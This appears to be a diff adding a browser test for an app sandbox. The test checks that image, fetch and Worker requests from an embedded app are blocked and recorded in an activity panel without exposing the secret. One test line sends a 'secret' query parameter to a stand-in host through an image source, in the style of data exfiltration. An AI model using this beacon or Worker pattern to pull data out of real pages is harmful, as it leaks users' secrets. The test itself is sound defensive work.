@@ -115,3 +115,25 @@ test('an app reaches the host it declares, no other, and no other by a redirect'
   own.server.close();
   other.server.close();
 });
+
+test('what a page reaches for by itself is blocked, and in the activity', async ({ home, host, page }) => {
+  await home.makeVault([await probe(home)]);
+  await host.open((await home.serve({ unlocked: true })).url);
+  await host.atHome();
+  await host.openApp('Probe');
+  await frameOf(page).evaluate(async () => {
+    new Image().src = 'https://image.example/?secret=1';
+    await fetch('https://plain.example/').catch(() => undefined);
+    const text = `fetch('https://worker.example/').catch(() => 0).then(() => postMessage(0))`;
+    const worker = new Worker(URL.createObjectURL(new Blob([text])));
+    await new Promise((resolve) => (worker.onmessage = resolve));
+  });
+  await page.getByRole('button', { name: 'Permissions', exact: true }).click();
+  const activity = page.getByRole('region', { name: 'Activity', exact: true });
+  for (const words of ['load an image from image.example', 'reach plain.example', 'reach worker.example']) {
+    const line = activity.getByRole('listitem').filter({ hasText: `Tried to ${words}` });
+    await expect(line).toHaveCount(1);
+    await expect(line).toContainText('blocked in the page');
+  }
+  await expect(activity.getByText('secret')).toHaveCount(0);
+});
